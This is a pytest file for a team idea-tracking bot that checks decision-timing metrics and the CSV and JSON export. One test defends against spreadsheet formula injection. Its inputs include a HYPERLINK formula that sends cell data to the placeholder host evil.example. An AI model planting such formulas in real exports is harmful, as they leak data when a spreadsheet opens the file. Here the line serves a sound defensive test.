"""Build-trap metrics on a seeded history with known answers, and the export's round trip."""

import csv
import io
import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import event, update

from bot.decisions import decide
from bot.export import COLUMNS, export_rows, to_csv
from bot.ideas import IdeaDraft, submit_idea
from bot.reviews import support
from bot.stats import build_trap_stats
from models import Decision, Idea, make_sessions
from tests.conftest import ROOT
from tests.flows import GOOD

T0 = datetime(2026, 9, 1, 9, tzinfo=UTC)


@pytest.fixture
def sessions(engine):
    return make_sessions(engine)


def seed(sessions, path, *, outcome=GOOD["outcome"], team="T1"):
    """An idea created at T0 that takes `path`: [(stage, days after T0, result)]."""
    with sessions.begin() as session:
        idea, _ = submit_idea(session, team_id=team, submitter_id="U1", draft=IdeaDraft(**{**GOOD, "outcome": outcome}))
        session.execute(update(Idea).where(Idea.id == idea.id).values(created_at=T0))
        stage = "candidate"
        for to, day, *result in path:
            revisit = (T0 + timedelta(days=day + 28)).date() if to in ("parked", "shipped") else None
            _, decision = decide(session, team_id=team, idea_id=idea.id, shown_stage=stage, to_stage=to,
                                 reason="Because the evidence says so", decided_by="UPM", revisit_on=revisit,
                                 result=result[0] if result else None)
            when = T0 + timedelta(days=day)
            session.execute(update(Decision).where(Decision.id == decision.id).values(decided_at=when))
            stage = to
        return idea.id


def test_metrics_on_a_seeded_history(sessions, engine):
    seed(sessions, [])                                                                   # waiting
    seed(sessions, [("discovery", 2)])                                                   # 2 days to decide
    seed(sessions, [("declined", 4)])                                                    # 4
    seed(sessions, [("discovery", 1), ("delivery", 11)])                                 # 1; 10 in discovery
    seed(sessions, [("discovery", 3), ("delivery", 9), ("shipped", 20)])                 # 3; 6
    seed(sessions, [("discovery", 6), ("delivery", 8), ("shipped", 15), ("reviewed", 50, "met")])     # 6; 2
    seed(sessions, [("discovery", 5), ("delivery", 19), ("shipped", 30), ("reviewed", 60, "missed")])  # 5; 14
    seed(sessions, [("discovery", 1)], team="T2")                                        # another workspace
    queries = []
    event.listen(engine, "before_cursor_execute", lambda *args: queries.append(args[2]))
    with sessions() as session:
        stats = build_trap_stats(session, "T1")
    assert len(queries) == 6  # whatever the size of the history
    assert (stats.ideas, stats.with_outcome_and_problem) == (7, 7)
    assert stats.median_days_to_first_decision == 3.5  # 1, 2, 3, 4, 5, 6
    assert stats.median_days_discovery_to_delivery == 8.0  # 2, 6, 10, 14
    assert (stats.shipped, stats.reviewed, stats.results) == (3, 2, {"met": 1, "missed": 1})
    assert stats.hit_rate == 0.5 and stats.review_share == pytest.approx(2 / 3)
    assert (stats.in_delivery_or_later, stats.tied_to_objective) == (4, 0)


AWKWARD = 'Finance, "ops" & payroll close sooner\nsecond line; ünïcödé 🎉 مرحبا'


def test_csv_round_trips_commas_quotes_newlines_and_unicode(sessions):
    idea_id = seed(sessions, [("discovery", 2)], outcome=AWKWARD)
    with sessions.begin() as session:
        support(session, "T1", session.get(Idea, idea_id), "U2", 'says "yes", twice\nper week')
    with sessions() as session:
        rows = export_rows(session, "T1")
    parsed = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert list(parsed[0]) == list(COLUMNS)
    assert parsed[0]["outcome"] == AWKWARD
    assert parsed[0]["supporters"] == "1" and parsed[0]["supporter_evidence"] == 'U2: says "yes", twice\nper week'
    assert "candidate -> discovery by UPM: Because the evidence says so" in parsed[0]["decisions"]


def test_a_reviews_measure_is_exported_with_its_result(sessions):
    """What was measured is the evidence the outcome happened: the export keeps it beside the result."""
    idea_id = seed(sessions, [("discovery", 1), ("delivery", 2), ("shipped", 3)])
    with sessions.begin() as session:
        decide(session, team_id="T1", idea_id=idea_id, shown_stage="shipped", to_stage="reviewed",
               reason="Automating the export removed the manual day", decided_by="U1", result="partly",
               measured="close took 3.5 days in October")
    with sessions() as session:
        [row] = list(csv.DictReader(io.StringIO(to_csv(export_rows(session, "T1")))))
    assert ("shipped -> reviewed [partly; measured: close took 3.5 days in October] by U1: "
            "Automating the export removed the manual day") in row["decisions"]


def test_operators_export_from_the_command_line(sessions, database_url, tmp_path):
    seed(sessions, [("discovery", 2)], outcome=AWKWARD)
    env = {"PATH": "/usr/bin:/bin", "DATABASE_URL": database_url, "PYTHONPATH": str(ROOT)}
    for fmt in ("csv", "json"):
        result = subprocess.run([sys.executable, "-m", "bot", "export", "--format", fmt], env=env, cwd=tmp_path,
                                capture_output=True, text=True, timeout=60)
        assert result.returncode == 0, result.stderr
        rows = list(csv.DictReader(io.StringIO(result.stdout))) if fmt == "csv" else json.loads(result.stdout)
        assert [row["outcome"] for row in rows] == [AWKWARD]


@pytest.mark.parametrize("typed", ['=HYPERLINK("https://evil.example/?leak="&E3&F3,"click")', "=1+1", "+1+1",
                                   "-2+3", "@SUM(A1:A9)", "\tindented", "\rreturn"])
def test_cells_a_spreadsheet_would_run_are_inert_in_the_csv_and_exact_in_the_json(sessions, database_url,
                                                                                  tmp_path, typed):
    with sessions.begin() as session:
        submit_idea(session, team_id="T1", submitter_id="U1",
                    draft=IdeaDraft(**{**GOOD, "ask": typed, "outcome": typed + " and finance closes sooner"}))
    with sessions() as session:
        rows = export_rows(session, "T1")
    [parsed] = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert parsed["original_ask"] == "'" + typed and parsed["outcome"].startswith("'" + typed)
    assert parsed["problem"] == GOOD["problem"]  # ordinary text untouched
    env = {"PATH": "/usr/bin:/bin", "DATABASE_URL": database_url, "PYTHONPATH": str(ROOT)}
    result = subprocess.run([sys.executable, "-m", "bot", "export", "--format", "json"], env=env, cwd=tmp_path,
                            capture_output=True, text=True, timeout=60)
    assert json.loads(result.stdout)[0]["original_ask"] == typed


def test_the_export_names_each_ideas_objective_and_its_key_results(sessions):
    from bot.objectives import KeyResultDraft, link, save_objective

    idea_id = seed(sessions, [("discovery", 2)])
    seed(sessions, [])
    with sessions.begin() as session:
        objective = save_objective(session, team_id="T1", user_id="UPM", title="Finance closes faster",
                                   key_results=[KeyResultDraft("Days to close", "5", "4",
                                                               datetime(2027, 3, 31).date())])
        link(session, "T1", idea_id, objective.id)
    with sessions() as session:
        rows = export_rows(session, "T1")
    assert rows[0]["objective"] == "Finance closes faster"
    assert rows[0]["key_results"] == "Days to close: 5 -> 4 by 2027-03-31"
    assert (rows[1]["objective"], rows[1]["key_results"]) == ("", "")
